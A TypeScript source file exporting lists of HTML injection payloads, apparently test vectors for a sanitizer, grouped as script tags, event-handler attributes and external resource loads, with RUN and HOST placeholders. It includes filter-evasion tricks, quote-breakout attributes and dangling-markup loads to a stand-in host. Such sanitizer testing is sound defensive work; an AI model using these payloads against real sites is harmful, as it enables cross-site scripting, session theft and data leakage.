/** What runs or loads something as it is read, in the language of vectors.ts. */
export const runningVectors = {
  scripts: `
    <script>RUN</script>
    <SCRIPT >RUN</ScRiPt >
    <script/x>RUN</script/x>
    <script␊>RUN</script␊>
    <script>RUN//
    <script>RUN<!--
    <script src=//HOST/a.js></script>
    <script src="data:text/javascript,RUN"></script>
    <script type=module>import('//HOST/a.js')</script>
    <script type=module src=//HOST/a.js></script>
    <script>/*</script*/RUN</script>
    <scr<script>ipt>RUN</scr</script>ipt>
    <<script>RUN</script>
    <script x="</script>">RUN</script>
    <script␀>RUN</script>
    <␀script>RUN</script>
    <svg><script>RUN</script></svg>
    <svg><script href="data:text/javascript,RUN" /></svg>
    <svg><script xlink:href="data:text/javascript,RUN"></script></svg>
    <svg><script>RUN&lt;/script></svg>
    <math><script>RUN</script></math>
    <script>/**/</script><script>RUN</script>
    </p><script>RUN</script><p>
    <script language=vbscript>RUN</script>
    <script for=window event=onload>RUN</script>
    <noscript></noscript><script>RUN</script>`,
  handlers: `
    <img src=x onerror=RUN>
    <img src=x onerror="RUN">
    <img src=x onerror='RUN'//>
    <img/src=x/onerror=RUN>
    <img␉src=x␊onerror␌=␍RUN>
    <img src onerror=RUN>
    <image src=x onerror=RUN>
    <img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=RUN>
    <svg onload=RUN>
    <svg/onload=RUN>
    <svg><svg onload=RUN></svg></svg>
    <svg><animate onbegin=RUN attributeName=x dur=1s>
    <svg><set onbegin=RUN attributeName=x to=1>
    <svg><image href=x onerror=RUN>
    <svg><a onclick=RUN><text y=9>a</text></a></svg>
    <svg><style onload=RUN></style></svg>
    <math><mtext onclick=RUN>a</mtext></math>
    <body onload=RUN>
    <body onpageshow=RUN>
    <html onclick=RUN>
    <iframe onload=RUN></iframe>
    <iframe srcdoc="<img src=x onerror=RUN>"></iframe>
    <iframe srcdoc="&lt;script>RUN&lt;/script>"></iframe>
    <object data=x onerror=RUN></object>
    <object onload=RUN data=data:text/html,a></object>
    <embed src=x onload=RUN>
    <video src=x onerror=RUN></video>
    <video><source src=x onerror=RUN></video>
    <audio src=x onerror=RUN></audio>
    <audio src onloadstart=RUN>
    <video poster=x onloadstart=RUN src=y></video>
    <input autofocus onfocus=RUN>
    <input type=image src=x onerror=RUN>
    <select autofocus onfocus=RUN></select>
    <textarea autofocus onfocus=RUN></textarea>
    <button autofocus onfocus=RUN>a</button>
    <p tabindex=0 autofocus onfocus=RUN>a</p>
    <strong contenteditable autofocus onfocus=RUN>a</strong>
    <a href=https://a.ba/ autofocus onfocus=RUN>a</a>
    <a href="https://a.ba/" autofocus onfocus="RUN" x="">a</a>
    <details open ontoggle=RUN><summary>a</summary></details>
    <dialog open onclose=RUN>a</dialog>
    <marquee onstart=RUN>a</marquee>
    <link rel=stylesheet href=data:text/css, onload=RUN>
    <link rel=stylesheet href=x onerror=RUN>
    <style onload=RUN></style>
    <style onload=RUN>@import 'data:text/css,';</style>
    <script src=x onerror=RUN></script>
    <p style="animation:x 1s" onanimationstart=RUN>a</p>
    <style>@keyframes x{}</style><p style=animation-name:x onanimationstart=RUN>a</p>
    <p style="transition:1s" ontransitionend=RUN>a</p>
    <p hidden=until-found onbeforematch=RUN>a</p>
    <p style=content-visibility:auto oncontentvisibilityautostatechange=RUN>a</p>
    <p style="overflow:auto;height:9px" onscroll=RUN onscrollend=RUN>a<br>b<br>c</p>
    <button popovertarget=x>a</button><p popover id=x onbeforetoggle=RUN>b</p>
    <xss onpointerrawupdate=RUN>a</xss>
    <custom-element onclick=RUN tabindex=1>a</custom-element>
    <form onsubmit=RUN><input type=submit autofocus></form>
    <form><button formaction=javascript:RUN>a</button></form>
    <isindex type=image src=x onerror=RUN>
    <frameset onload=RUN><frame src=x></frameset>
    <track onerror=RUN src=x default>
    <keygen autofocus onfocus=RUN>
    <bgsound src=x onpropertychange=RUN>
    <p onclick=RUN//a>a</p>
    <p/"onclick=RUN>a</p>
    <p x="a"onclick=RUN>a</p>
    <p """onclick=RUN>a</p>
    <p =onclick=RUN>a</p>
    <p x=y'onclick=RUN>a</p>
    <li data-type="taskItem" data-checked='true" onclick="RUN'>a</li>
    <ul data-type='taskList" onclick="RUN'><li>a</li></ul>
    <ol start='1" onclick="RUN'><li>a</li></ol>`,
  loads: String.raw`
    <img src=//HOST/a>
    <img srcset="//HOST/a 1x">
    <img src=data:, srcset=//HOST/a,x>
    <img lowsrc=//HOST/a dynsrc=//HOST/a longdesc=//HOST/a>
    <picture><source srcset=//HOST/a><img></picture>
    <video poster=//HOST/a src=//HOST/b><track default src=//HOST/c></video>
    <audio autoplay src=//HOST/a></audio>
    <input type=image src=//HOST/a>
    <link rel=stylesheet href=//HOST/a.css>
    <link rel=preload as=image href=//HOST/a>
    <link rel="prefetch prerender" href=//HOST/a>
    <link rel=modulepreload href=//HOST/a.js>
    <link rel="dns-prefetch preconnect" href=//HOST>
    <link rel="icon manifest" href=//HOST/a>
    <body background=//HOST/a>
    <table background=//HOST/a><td background=//HOST/b>a</table>
    <iframe src=//HOST/a></iframe>
    <frameset><frame src=//HOST/a></frameset>
    <object data=//HOST/a></object>
    <embed src=//HOST/a>
    <applet code=//HOST/a></applet>
    <portal src=//HOST/a></portal>
    <fencedframe src=//HOST/a></fencedframe>
    <meta http-equiv=refresh content="0;url=//HOST/a">
    <meta http-equiv=refresh content="0;url=javascript:RUN">
    <meta http-equiv=Set-Cookie content="a=b">
    <meta http-equiv=Content-Security-Policy content="default-src *">
    <base href=//HOST/><img src=a><a href=b>c</a>
    <a href=https://a.ba/ ping=//HOST/a>a</a>
    <a href=https://a.ba/ attributionsrc=//HOST/a download=b>a</a>
    <form action=//HOST/a><input name=b autofocus><button>c</button></form>
    <svg><image href=//HOST/a /></svg>
    <svg><use href=//HOST/a.svg#b /></svg>
    <svg><feImage href=//HOST/a /></svg>
    <svg><rect fill="url(//HOST/a#b)" filter="url(//HOST/c#d)"/></svg>
    <svg><style>@import '//HOST/a';</style></svg>
    <style>@import '//HOST/a.css';p{background:url(//HOST/b)}</style>
    <style>@font-face{font-family:x;src:url(//HOST/a)}p{font-family:x}</style>
    <p style="background:url(//HOST/a)">a</p>
    <p style="background:url(&#47;/HOST/a)">a</p>
    <p style="background-image:image-set('//HOST/a' 1x)">a</p>
    <p style="list-style:url(//HOST/a);cursor:url(//HOST/b),auto">a</p>
    <p style="b\61ckground:u\72l(//HOST/a)">a</p>
    <p style="width:expression(RUN)">a</p>
    <p style="behavior:url(//HOST/a.htc);-moz-binding:url(//HOST/b.xml#c)">a</p>
    <p style="position:fixed;inset:0;z-index:9999">a</p>
    <xml src=//HOST/a id=b></xml>
    <img src="//HOST/?a=
    <a href="https://a.ba/" style="background:url(//HOST/a)">a</a>
    <blockquote cite=//HOST/a><ins cite=//HOST/b>a</ins></blockquote>`,
};
